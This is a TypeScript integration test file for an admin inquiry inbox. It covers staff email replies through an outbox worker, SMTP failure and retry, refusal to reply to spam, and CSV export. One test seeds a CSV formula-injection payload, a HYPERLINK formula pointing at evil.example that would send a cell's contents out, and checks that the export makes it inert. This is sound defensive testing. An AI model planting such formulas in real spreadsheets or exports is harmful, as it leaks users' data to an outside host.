import { and, eq } from "drizzle-orm";
import nodemailer from "nodemailer";
import request from "supertest";
import type { InboxDetail } from "@shared/admin/inbox";
import { uniqueToken } from "../../db/factories";
import { auditLog, emailOutbox, inquiries, inquiryReplies } from "../../db/schema";
import { createApp } from "../../app";
import type { StaffUser } from "../../auth/staff";
import { engines } from "../../test/database";
import { TestSmtpServer } from "../../test/smtp-server";
import { staffSession } from "../../test/staff-session";
import { openPrivateDatabase } from "../../test/private-database";
import { setupTestApp } from "../../test/test-app";
import { DEFAULT_REPLY_SUBJECT } from "./admin-writes";
import { startOutboxWorker, type OutboxWorker } from "./outbox-worker";
import { testPasswordHasher } from "../../test/password-hasher";

describe.each(engines)("staff replies through the outbox, and the CSV export, on %s", (engine) => {
  const smtp = new TestSmtpServer();
  const kick = { run: () => {} };
  // The app as server/index.ts builds it with SMTP: a queued mail kicks the outbox worker.
  const { database, app } = setupTestApp(
    engine,
    (db) =>
      createApp({
        passwordHasher: testPasswordHasher,
        db,
        stripe: null,
        contact: { onQueued: () => kick.run(), log: () => {} },
        postRateLimit: { limit: 100_000, keyPrefix: uniqueToken("inbox-mail") },
      }),
    // Its own database: an outbox worker sends every due row, so on a shared one it would send
    // (to its own SMTP server) mail that another file's worker waits for.
    openPrivateDatabase,
  );
  const editor = { staff: {} as StaffUser, headers: {} as Record<string, string> };
  let worker: OutboxWorker;

  beforeAll(async () => {
    await smtp.start(0);
    const transport = nodemailer.createTransport({ url: smtp.url, connectionTimeout: 2000 });
    worker = startOutboxWorker({ db: database.db, transport, from: "office@example.com", pollMs: 5000, backoff: { baseMs: 200, maxMs: 500 } });
    kick.run = worker.kick;
    const session = await staffSession(app, database.db, "editor");
    Object.assign(editor, { staff: session.staff, headers: { Cookie: session.cookie } });
  });
  afterAll(async () => {
    await worker.stop();
    await smtp.stop();
  });

  async function inquiry(over: Partial<typeof inquiries.$inferInsert> = {}) {
    const email = `${uniqueToken("asker")}@example.com`;
    const [row] = await database.db
      .insert(inquiries)
      .values({ kind: "contact", name: "Sample Asker", email, message: "Do you list dentists?", ...over })
      .returning();
    return row!;
  }
  const detail = async (id: number) => (await request(app).get(`/api/admin/inquiries/${id}`).set(editor.headers).expect(200)).body as InboxDetail;

  it("mails the reply to the inquirer, keeps it in the thread, marks the message answered and shows it sent", async () => {
    const asked = await inquiry();
    const res = await request(app)
      .post(`/api/admin/inquiries/${asked.id}/replies`)
      .set(editor.headers)
      .send({ body: "Yes: see the Dental category.\nThank you for writing." })
      .expect(201);
    const answered = res.body as InboxDetail;
    expect(answered.status).toBe("answered");
    expect(answered.replies).toMatchObject([{ to: asked.email, subject: DEFAULT_REPLY_SUBJECT, authorEmail: editor.staff.email }]);

    const mail = await smtp.waitFor((m) => m.to.includes(asked.email));
    expect(mail).toMatchObject({ from: "office@example.com", subject: DEFAULT_REPLY_SUBJECT, text: "Yes: see the Dental category.\nThank you for writing." });
    // A reply must not answer to the inquirer themself (the owner's notification does).
    expect(mail.replyTo).toBe("");
    await vi.waitFor(async () => expect((await detail(asked.id)).replies[0]!.delivery).toMatchObject({ state: "sent", attempts: 1, lastError: null }), {
      timeout: 5000,
    });

    const [audit] = await database.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, "inquiry.reply"), eq(auditLog.entityId, String(asked.id))));
    expect(audit).toMatchObject({ actorId: editor.staff.id, before: { status: "new" }, after: { status: "answered", to: asked.email } });
  });

  it("shows a reply failed, with the error and the attempts, while SMTP is down, then sent once it is back", async () => {
    const asked = await inquiry({ status: "in_progress" });
    const port = smtp.port;
    await smtp.stop();
    try {
      await request(app)
        .post(`/api/admin/inquiries/${asked.id}/replies`)
        .set(editor.headers)
        .send({ subject: "About your listing", body: "We will call you." })
        .expect(201);
      await vi.waitFor(
        async () => {
          const delivery = (await detail(asked.id)).replies[0]!.delivery!;
          expect(delivery).toMatchObject({ state: "failed", sentAt: null, lastError: expect.stringMatching(/ECONNREFUSED|connect/i) });
          expect(delivery.attempts).toBeGreaterThanOrEqual(2);
        },
        { timeout: 10_000, interval: 100 },
      );
    } finally {
      await smtp.start(port);
    }
    const mail = await smtp.waitFor((m) => m.to.includes(asked.email), 10_000);
    expect(mail.subject).toBe("About your listing");
    await vi.waitFor(async () => expect((await detail(asked.id)).replies[0]!.delivery).toMatchObject({ state: "sent", lastError: null }), { timeout: 5000 });
  });

  it("refuses a reply to spam with 409 and queues nothing; a closed message stays closed after a reply", async () => {
    const spam = await inquiry({ status: "spam" });
    const refused = await request(app).post(`/api/admin/inquiries/${spam.id}/replies`).set(editor.headers).send({ body: "Hello" }).expect(409);
    expect(refused.body.message).toMatch(/spam/);
    expect(await database.db.select().from(emailOutbox).where(eq(emailOutbox.inquiryId, spam.id))).toEqual([]);
    const closed = await inquiry({ status: "closed" });
    const res = await request(app).post(`/api/admin/inquiries/${closed.id}/replies`).set(editor.headers).send({ body: "One more thing." }).expect(201);
    expect((res.body as InboxDetail).status).toBe("closed");
    expect(await database.db.select().from(inquiryReplies).where(eq(inquiryReplies.inquiryId, closed.id))).toHaveLength(1);
  });

  it("exports the filtered messages as CSV with formula cells made inert", async () => {
    const t = uniqueToken("csv");
    await inquiry({ name: `=HYPERLINK("http://evil.example/?x="&A1,"Click") ${t}`, message: "+SUM(1,2)" });
    await inquiry({ name: `Plain ${t}`, message: 'Said "hi", then left' });
    await inquiry({ name: `Spam ${t}`, status: "spam" });
    const res = await request(app).get("/api/admin/inquiries.csv").query({ q: t }).set(editor.headers).expect(200);
    expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(res.headers["content-disposition"]).toMatch(/^attachment; filename="inquiries-\d{4}-\d{2}-\d{2}\.csv"$/);
    const lines = res.text.trimEnd().split("\r\n");
    expect(lines[0]).toBe("id,created_at,kind,status,name,email,professional_name,message,fields");
    expect(lines).toHaveLength(3); // no spam without status=spam
    expect(res.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"") ${t}"`);
    expect(res.text).toContain(`"'+SUM(1,2)"`);
    expect(res.text).toContain(`"Said ""hi"", then left"`);
    expect(res.text).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it("exports every matching row across batches, each once", async () => {
    const t = uniqueToken("csvmany");
    const rows = Array.from({ length: 1203 }, (_, i) => ({ kind: "news" as const, name: `Bulk ${t} ${i}`, email: `bulk${i}@example.com`, message: "x" }));
    await database.db.insert(inquiries).values(rows);
    const res = await request(app).get("/api/admin/inquiries.csv").query({ q: t, kind: "news" }).set(editor.headers).expect(200);
    const names = res.text
      .trimEnd()
      .split("\r\n")
      .slice(1)
      .map((l) => l.split(",")[4]);
    expect(names).toHaveLength(1203);
    expect(new Set(names).size).toBe(1203);
  });
});
